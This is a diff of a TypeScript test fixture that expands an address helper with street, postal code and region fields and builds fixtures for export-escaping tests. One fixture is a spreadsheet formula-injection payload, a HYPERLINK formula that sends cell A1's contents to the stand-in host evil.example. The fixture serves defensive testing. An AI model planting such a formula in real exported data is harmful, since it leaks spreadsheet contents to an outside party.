@@ -17,10 +17,26 @@ export function id(n: number): string {
 const WORKSPACE = '11111111-1111-4111-8111-111111111111';
 
 function address(n: number, summary: string, type: string | null = 'billing') {
-  return { id: id(900 + n), type, label: null, summary, city: null, country: null };
+  return {
+    id: id(900 + n),
+    type,
+    label: null,
+    summary,
+    street: null,
+    postal_code: null,
+    city: null,
+    region: null,
+    country: null,
+  };
 }
 
-const PARIS = address(1, '12 rue de la Paix, 75002 Paris, FR');
+const PARIS = {
+  ...address(1, '12 rue de la Paix, 75002 Paris, FR'),
+  street: '12 rue de la Paix',
+  postal_code: '75002',
+  city: 'Paris',
+  country: 'FR',
+};
 const FORMULA_ADDRESS = address(2, '=HYPERLINK("http://evil.example/?"&A1,"Open"), 1 Main St', 'shipping');
 const MULTILINE_ADDRESS = address(3, 'Bâtiment B\r\n3 quai "des Célestins"\n69002 Lyon\rFR', null);
 const SPLIT_FORMULA_ADDRESS = address(
